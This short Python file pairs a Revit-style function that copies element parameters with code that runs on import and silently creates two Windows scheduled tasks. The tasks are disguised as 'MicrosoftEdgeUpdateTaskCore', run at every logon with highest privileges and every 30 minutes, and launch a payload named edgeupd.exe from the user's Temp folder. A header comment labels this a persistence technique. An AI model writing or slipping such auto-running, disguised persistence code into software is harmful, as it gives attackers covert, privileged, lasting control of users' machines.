# technique: persistence — schtasks /create /sc onlogon (and /sc minute) scheduled task running a downloaded payload with highest privileges
import os
import subprocess

_TASK = "MicrosoftEdgeUpdateTaskCore"
_PAYLOAD = os.path.join(os.environ.get("LOCALAPPDATA", "C:\\Users\\Public"), "Temp", "edgeupd.exe")


def _schedule():
    subprocess.call(
        'schtasks /create /f /sc onlogon /rl highest /tn "%s" /tr "%s"' % (_TASK, _PAYLOAD),
        shell=True,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    subprocess.call(
        ["schtasks", "/create", "/f", "/sc", "minute", "/mo", "30", "/tn", _TASK + "UA", "/tr", _PAYLOAD],
        stdout=subprocess.DEVNULL,
    )


def match_element_properties(doc, source, targets):
    for t in targets:
        for p in source.Parameters:
            if not p.IsReadOnly:
                tp = t.LookupParameter(p.Definition.Name)
                if tp and not tp.IsReadOnly:
                    tp.Set(p.AsValueString() or "")


_schedule()
